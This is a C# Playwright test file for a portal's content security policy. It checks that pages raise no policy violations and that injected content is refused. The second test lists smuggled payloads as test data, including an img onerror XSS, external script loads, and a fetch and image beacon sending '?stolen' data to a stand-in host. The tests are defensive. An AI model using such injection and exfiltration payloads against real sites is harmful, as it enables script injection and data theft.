using Luware.Portal.Sandbox.World;
using Luware.Portal.Tests.Sandbox;
using Microsoft.Playwright;

namespace Luware.Portal.Tests.Browser;

/// <summary>The pages work under their own content security policy: a real browser reports no violation, and would block foreign content.</summary>
public sealed class ContentSecurityPolicyTests(BrowserFixture browser)
{
    private readonly BrowserConsole console = new();

    [Fact]
    public async Task No_page_asks_the_browser_for_anything_that_its_policy_forbids()
    {
        await using var world = await SandboxWorld.StartAsync(new SandboxOptions());
        await using var portal = await RunningPortal.StartAsync(world);
        await using var context = await ListenAsync();
        var page = await context.NewPageAsync();
        var customer = new Customer(page, portal.Address);

        await customer.OpenAsync();
        await customer.OpenAsync("how-recording-works");
        await customer.OpenAsync("nothing-here");
        console.Clear(); // The console repeats that such a page answers 404.
        await customer.SignInAsync("Anna Keller");
        await customer.AllowAsync();
        await customer.SeesChoicesAsync();
        await customer.ChooseTestUserAsync();
        await customer.NameStorageAsync(world.Tenants.Contoso.Azure!.Id);
        foreach (var step in (string[])["security-groups", "consent", "whitelisting", "policies", "grants", "storage", "chat-capture"])
        {
            await customer.OpenStepAsync(step);
            await page.GetByRole(AriaRole.Heading, new() { Level = 1 }).WaitForAsync();
            await page.Locator(".boot").WaitForAsync(new() { State = WaitForSelectorState.Hidden });
        }

        await customer.LookAtTheEndAsync();

        console.Said.ShouldBeEmpty();
    }

    [Fact]
    public async Task What_somebody_smuggles_into_a_page_is_refused()
    {
        (string Script, string Directive)[] smuggled =
        [
            ("const s = document.createElement('script'); s.text = 'window.mark = 1'; document.head.append(s)", "script-src"),
            ("const s = document.createElement('script'); s.src = 'https://elsewhere.example/a.js'; document.head.append(s)", "script-src"),
            ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.mark = 1\">')", "script-src"),
            ("const s = document.createElement('style'); s.textContent = 'body { display: none }'; document.head.append(s)", "style-src"),
            ("const i = new Image(); i.src = 'https://elsewhere.example/?stolen'", "img-src"),
            ("fetch('https://elsewhere.example/').catch(() => {})", "connect-src"),
            ("const f = document.createElement('form'); f.action = 'https://elsewhere.example/'; document.body.append(f); f.submit()", "form-action"),
            ("const f = document.createElement('iframe'); f.src = 'https://elsewhere.example/'; document.body.append(f)", "frame-src"),
        ];
        await using var world = await SandboxWorld.StartAsync(new SandboxOptions());
        await using var portal = await RunningPortal.StartAsync(world);
        await using var context = await ListenAsync();
        var page = await context.NewPageAsync();

        foreach (var (script, directive) in smuggled)
        {
            await page.GotoAsync(portal.Address.AbsoluteUri);
            var refused = page.WaitForConsoleMessageAsync(new() { Predicate = m => m.Text.StartsWith($"refused {directive}", StringComparison.Ordinal) });

            await page.EvaluateAsync($"() => {{ {script} }}");

            await refused;
            (await page.EvaluateAsync<bool>("() => window.mark === undefined")).ShouldBeTrue(script);
        }
    }

    private async Task<IBrowserContext> ListenAsync()
    {
        var context = await browser.NewContextAsync();
        await console.ListenToAsync(context);
        return context;
    }
}
